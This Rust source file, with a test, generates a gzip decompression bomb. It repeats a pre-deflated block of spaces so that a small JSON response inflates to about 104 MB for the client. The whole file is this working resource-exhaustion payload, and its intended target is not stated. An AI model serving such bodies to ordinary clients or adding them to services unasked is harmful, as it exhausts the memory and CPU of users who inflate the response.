//! A gzip body that is small on the wire and huge when inflated, built without inflating it here.

use flate2::{Compress, Compression, Crc, FlushCompress};

const SPACES: usize = 1 << 20;
/// Of 1 MB each.
const BLOCKS: usize = 104;
/// Deflate, without name and date, unknown operating system.
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
/// An empty final block.
const LAST_BLOCK: [u8; 2] = [3, 0];

/// `body` with 104 MB of spaces before its last byte.
pub fn bomb(body: &[u8]) -> Vec<u8> {
    let (last, start) = body.split_last().unwrap_or((&b'}', b"{"));
    let spaces = vec![b' '; SPACES];
    let (start_block, space_block, end_block) = (deflated(start), deflated(&spaces), deflated(&[*last]));
    let mut sum = Crc::new();
    sum.update(start);
    let mut of_spaces = Crc::new();
    of_spaces.update(&spaces);
    let mut bomb = [HEADER.as_slice(), &start_block].concat();
    for _ in 0..BLOCKS {
        // Each block is independent, so that one can be repeated.
        bomb.extend_from_slice(&space_block);
        sum.combine(&of_spaces);
    }
    sum.update(&[*last]);
    bomb.extend_from_slice(&end_block);
    bomb.extend_from_slice(&LAST_BLOCK);
    bomb.extend_from_slice(&sum.sum().to_le_bytes());
    bomb.extend_from_slice(&sum.amount().to_le_bytes());
    bomb
}

/// A byte-aligned block that is not final and refers to no earlier data.
fn deflated(bytes: &[u8]) -> Vec<u8> {
    let mut compress = Compress::new(Compression::best(), false);
    let mut out = Vec::with_capacity(bytes.len() + 64);
    // It cannot fail with enough space in the buffer.
    let _ = compress.compress_vec(bytes, &mut out, FlushCompress::Full);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    #[test]
    fn it_is_valid_and_small_and_huge_when_inflated() {
        let bomb = bomb(br#"{"status":true}"#);
        assert!(bomb.len() < 200_000, "{}", bomb.len());
        let mut text = Vec::new();
        flate2::read::GzDecoder::new(bomb.as_slice()).read_to_end(&mut text).unwrap();
        assert_eq!(text.len(), 15 + BLOCKS * SPACES);
        assert!(text.starts_with(br#"{"status":true  "#) && text.ends_with(b"  }"));
    }
}
